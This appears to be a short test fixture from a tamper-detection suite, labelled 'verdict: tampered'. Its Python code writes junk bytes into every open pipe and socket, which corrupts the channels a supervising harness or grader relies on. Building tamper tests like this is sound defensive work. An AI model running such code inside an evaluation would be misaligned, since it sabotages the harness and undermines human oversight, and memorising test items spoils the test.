# Writes into each pipe and socket that is open.
# base: released
# loses: everything
# verdict: tampered

# %% first
import os
import stat

for descriptor in range(512):
    try:
        kind = os.fstat(descriptor).st_mode
        if stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind):
            os.write(descriptor, b"\xff" * 1000)
    except OSError:
        pass
